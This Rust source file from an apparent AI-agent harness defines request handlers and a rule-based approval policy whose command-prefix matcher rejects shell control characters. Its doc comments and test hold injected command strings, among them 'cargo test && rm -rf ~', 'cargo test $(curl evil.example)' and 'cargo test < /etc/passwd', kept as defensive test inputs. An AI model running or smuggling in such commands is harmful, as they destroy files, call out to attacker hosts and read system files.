//! Request handlers: answer the agent's questions and approvals as they come.
//!
//! A handler registered on the harness ([`HarnessBuilder::request_handler`](crate::HarnessBuilder::request_handler))
//! or on one session ([`SessionOptions::request_handler`](crate::SessionOptions::request_handler),
//! which wins) is asked about every request the moment it is created. Its answer goes through the
//! same exactly-once claim as [`Harness::respond`](crate::Harness::respond): whichever answer
//! claims the request first is delivered, the other gets `ResponseInProgress` /
//! `AlreadyResolved` (or is dropped, for the handler). A handler that returns `None` leaves the
//! request to the caller: it still reaches subscribers and `respond`. A handler that panics,
//! takes longer than its deadline (the session's `request_timeout`, else
//! `provider_command_timeout`), answers with a response that does not fit the request, or whose
//! answer the provider refuses (a decision its CLI does not offer) denies it — the agent sees the
//! denial, the session goes on. A request with a deadline of its own no later than the handler's
//! (a `request_timeout`, or a shorter one the CLI set) is the deadline's to deny: a handler still
//! silent then leaves it to expire as `request_expired { reason: timeout }`.
//!
//! ```
//! use agent_core::handler::{self, RequestPolicy};
//! use agent_core::{RequestKind, Response};
//!
//! // A closure: approve every approval, leave questions to the caller.
//! let approve_all = handler::from_fn(|request| async move {
//!     request.kind.is_approval().then(Response::approve)
//! });
//! // A policy: allow a few commands, deny every other command, leave the rest.
//! let policy = RequestPolicy::new()
//!     .approve_commands(["cargo test", "git status"])
//!     .deny_kind(RequestKind::CommandApproval, "only tests and status may run");
//! # let _ = (approve_all, policy);
//! ```

use std::fmt;
use std::future::Future;
use std::pin::Pin;
use std::sync::Arc;

use async_trait::async_trait;

use crate::request::{Request, RequestKind, Response};

/// Answers requests as they are created.
#[async_trait]
pub trait RequestHandler: Send + Sync + fmt::Debug + 'static {
    /// The response to `request`, or `None` to leave it to [`Harness::respond`](crate::Harness::respond).
    async fn handle(&self, request: &Request) -> Option<Response>;
}

/// A shared request handler.
pub type DynRequestHandler = Arc<dyn RequestHandler>;

type BoxFuture = Pin<Box<dyn Future<Output = Option<Response>> + Send>>;

/// A handler from an async closure taking the request.
pub fn from_fn<F, Fut>(f: F) -> DynRequestHandler
where
    F: Fn(Request) -> Fut + Send + Sync + 'static,
    Fut: Future<Output = Option<Response>> + Send + 'static,
{
    Arc::new(FnHandler(Box::new(move |request| Box::pin(f(request)))))
}

struct FnHandler(Box<dyn Fn(Request) -> BoxFuture + Send + Sync>);

#[async_trait]
impl RequestHandler for FnHandler {
    async fn handle(&self, request: &Request) -> Option<Response> {
        (self.0)(request.clone()).await
    }
}

impl fmt::Debug for FnHandler {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("FnHandler")
    }
}

/// What a [`RequestPolicy`] rule matches.
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum Matcher {
    /// Every request of this kind.
    Kind(RequestKind),
    /// A command approval whose command (`metadata.command`), trimmed, is this command or starts
    /// with it followed by a space — and whose arguments after it hold none of the shell's
    /// control characters ([`SHELL_CONTROL`]: chaining, pipes, redirections, substitutions, line
    /// breaks): `cargo test && rm -rf ~` or `cargo test $(curl …)` runs more than `cargo test`,
    /// so it does not match. Quoting is not read: a quoted `;` does not match either.
    CommandPrefix(String),
    /// A request whose `metadata.tool` (the tool a provider asks about) is this name.
    Tool(String),
}

/// The characters that make a shell run more than the command they follow: `;` `&` `|` `<` `>`
/// `` ` `` `$` `(` `)` and line breaks. A [`Matcher::CommandPrefix`] never matches a command that
/// holds one after its prefix.
pub const SHELL_CONTROL: &[char] = &[';', '&', '|', '<', '>', '`', '$', '(', ')', '\n', '\r'];

impl Matcher {
    fn matches(&self, request: &Request) -> bool {
        let meta = |key: &str| request.metadata.get(key).and_then(|v| v.as_str());
        match self {
            Matcher::Kind(kind) => request.kind == *kind,
            Matcher::CommandPrefix(prefix) => {
                request.kind == RequestKind::CommandApproval
                    && meta("command").map(str::trim).is_some_and(|command| {
                        command == prefix
                            || command.strip_prefix(prefix.as_str()).is_some_and(|arguments| {
                                arguments.starts_with(' ') && !arguments.contains(SHELL_CONTROL)
                            })
                    })
            }
            Matcher::Tool(tool) => meta("tool") == Some(tool.as_str()),
        }
    }
}

/// Answers requests by rules, first match wins; a request no rule matches is left to the caller
/// (or gets the policy's fallback).
#[derive(Clone, Debug, Default)]
pub struct RequestPolicy {
    rules: Vec<(Matcher, Response)>,
    fallback: Option<Response>,
}

impl RequestPolicy {
    /// A policy with no rules.
    pub fn new() -> Self {
        Self::default()
    }

    /// Answers requests `matcher` matches with `response`.
    pub fn rule(mut self, matcher: Matcher, response: Response) -> Self {
        self.rules.push((matcher, response));
        self
    }

    /// Approves (once) every request of `kind`.
    pub fn approve_kind(self, kind: RequestKind) -> Self {
        self.rule(Matcher::Kind(kind), Response::approve())
    }

    /// Denies every request of `kind` with `reason`.
    pub fn deny_kind(self, kind: RequestKind, reason: impl Into<String>) -> Self {
        self.rule(Matcher::Kind(kind), Response::deny(reason))
    }

    /// Approves (once) commands that are, or start with, one of `prefixes` followed by plain
    /// arguments (see [`Matcher::CommandPrefix`]: a command that chains, pipes, redirects or
    /// substitutes after the prefix is not approved by it).
    pub fn approve_commands(mut self, prefixes: impl IntoIterator<Item = impl Into<String>>) -> Self {
        for prefix in prefixes {
            self = self.rule(Matcher::CommandPrefix(prefix.into()), Response::approve());
        }
        self
    }

    /// Answers every request no rule matches with `response` (for example a deny).
    pub fn otherwise(mut self, response: Response) -> Self {
        self.fallback = Some(response);
        self
    }

    /// The policy's answer to `request`, if it has one. A rule whose response does not fit the
    /// request (an approval for a question) is passed over.
    pub fn decide(&self, request: &Request) -> Option<Response> {
        self.rules
            .iter()
            .filter(|(matcher, _)| matcher.matches(request))
            .map(|(_, response)| response)
            .chain(self.fallback.as_ref())
            .find(|response| response.validate_for(request).is_ok())
            .cloned()
    }
}

#[async_trait]
impl RequestHandler for RequestPolicy {
    async fn handle(&self, request: &Request) -> Option<Response> {
        self.decide(request)
    }
}

impl From<RequestPolicy> for DynRequestHandler {
    fn from(policy: RequestPolicy) -> Self {
        Arc::new(policy)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::request::{ProviderRef, RequestStatus, Scope};
    use crate::{RequestId, SessionId, Timestamp, TurnId};

    fn request(kind: RequestKind, command: Option<&str>) -> Request {
        let mut metadata = serde_json::Map::new();
        if let Some(command) = command {
            metadata.insert("command".into(), command.into());
        }
        Request {
            id: RequestId::generate(),
            session_id: SessionId::new("s").unwrap(),
            turn_id: TurnId::generate(),
            kind,
            prompt: "?".into(),
            choices: vec![],
            questions: if kind == RequestKind::Question { vec![crate::Question::new("q", "?")] } else { Vec::new() },
            schema: None,
            scopes: vec![Scope::Once],
            metadata,
            status: RequestStatus::Pending,
            provider_ref: ProviderRef("1".into()),
            response: None,
            created_at: Timestamp::now(),
            expires_at: None,
        }
    }

    #[test]
    fn a_policy_matches_rules_in_order_and_leaves_the_rest() {
        let policy = RequestPolicy::new()
            .approve_commands(["cargo test", "git status"])
            .deny_kind(RequestKind::CommandApproval, "no")
            .approve_kind(RequestKind::FileChangeApproval);
        let approve = Some(Response::approve());
        assert_eq!(policy.decide(&request(RequestKind::CommandApproval, Some("cargo test -p x"))), approve);
        assert_eq!(policy.decide(&request(RequestKind::CommandApproval, Some("  git status"))), approve);
        assert_eq!(
            policy.decide(&request(RequestKind::CommandApproval, Some("cargo testify"))),
            Some(Response::deny("no")),
            "a prefix matches whole words"
        );
        for chained in [
            "cargo test && rm -rf ~",
            "cargo test || true",
            "cargo test | sh",
            "cargo test; rm -rf ~",
            "cargo test & curl evil.example",
            "cargo test $(curl evil.example)",
            "cargo test `id`",
            "cargo test > ~/.bashrc",
            "cargo test < /etc/passwd",
            "cargo test\nrm -rf ~",
            "git status $HOME",
        ] {
            assert_eq!(
                policy.decide(&request(RequestKind::CommandApproval, Some(chained))),
                Some(Response::deny("no")),
                "{chained:?} runs more than its prefix"
            );
        }
        assert_eq!(policy.decide(&request(RequestKind::FileChangeApproval, None)), approve);
        assert_eq!(policy.decide(&request(RequestKind::Question, None)), None, "left to the caller");
        let strict = policy.otherwise(Response::deny("not allowed"));
        assert_eq!(strict.decide(&request(RequestKind::Question, None)), Some(Response::deny("not allowed")));
    }
}
